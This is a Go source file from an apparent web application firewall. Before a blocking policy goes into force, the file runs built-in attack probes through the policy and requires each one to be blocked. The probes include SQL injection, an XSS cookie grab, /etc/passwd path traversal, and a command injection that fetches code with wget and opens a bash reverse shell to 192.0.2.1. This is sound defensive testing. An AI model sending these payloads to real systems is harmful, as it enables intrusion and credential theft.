package proxy

import (
	"bufio"
	"errors"
	"fmt"
	"net"
	"slices"
	"strings"

	"github.com/valyala/fasthttp"
	"github.com/wafer-waf/wafer/inspect"
	"github.com/wafer-waf/wafer/waf"
)

// probes are attacks that every policy in block mode has to stop before it is put in
// force, each by rules of its own class. They match several rules each, so that a higher
// threshold does not fail them.
var probes = []struct{ class, query string }{
	{"attack-sqli", "/?id=1%27%20UNION%20ALL%20SELECT%20username%2Cpassword%20FROM%20users%20WHERE%201%3D1%20OR%20sleep%285%29--%20-"},
	{"attack-xss", "/?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E%3Cimg%20src%3Dx%20onerror%3Deval%28name%29%3E"},
	{"attack-lfi", "/?file=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"},
	{"attack-rce", "/?cmd=%3Bcat%20%2Fetc%2Fpasswd%7Cwget%20http%3A%2F%2F192.0.2.1%2Fx%3Bbash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F192.0.2.1%2F1"},
}

// probe sends the attacks, as the bytes a client would send, through what serves requests:
// fasthttp's parser, the view, the inspection with its screen.
func probe(by *inspect.Inspector, p *inspect.Policy) error {
	var errs []error
	for _, one := range probes {
		if err := probeOne(by, p, one.class, one.query); err != nil {
			errs = append(errs, fmt.Errorf("built-in probe %s: %w", one.class, err))
		}
	}
	if len(errs) > 0 {
		errs = append(errs, errors.New("a policy that lets these pass protects nothing: narrow its exclusions by target or path, lower its threshold, or write mode: detect"))
	}
	return errors.Join(errs...)
}

func probeOne(by *inspect.Inspector, p *inspect.Policy, class, target string) error {
	raw := "GET " + target + " HTTP/1.1\r\nHost: probe.invalid\r\nUser-Agent: wafer-probe\r\nAccept: */*\r\n\r\n"
	var req fasthttp.Request
	if err := req.Header.Read(bufio.NewReader(strings.NewReader(raw))); err != nil {
		return fmt.Errorf("parse: %w", err)
	}
	var ctx fasthttp.RequestCtx
	ctx.Init(&req, &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 1}, nil)
	var v view
	v.read(&ctx, nil)
	v.identify(&ctx, nil, "")
	request := v.request(&ctx)
	var i inspect.Inspection
	// Whether the policy stops an attack does not depend on how busy the machine is.
	i.Begin(by, p, inspect.Terms{ID: "probe", Unbounded: true})
	o := i.RequestHead(&request)
	if !o.Stops() {
		o = i.RequestBody(inspect.Body{Ended: true})
	}
	report := i.End()
	if err := errors.Join(o.Err, report.Err); err != nil {
		return err
	}
	classed := slices.ContainsFunc(report.Findings.Matches, func(m waf.Match) bool { return slices.Contains(m.Tags, class) })
	switch {
	case !classed && o.Stops():
		return fmt.Errorf("no rule tagged %s matched, since rule %d stopped it before", class, report.Findings.Verdict.RuleID)
	case !classed:
		return fmt.Errorf("no rule tagged %s matched", class)
	case !o.Stops():
		return fmt.Errorf("not blocked (score %d)", report.Findings.InboundScore)
	}
	return nil
}
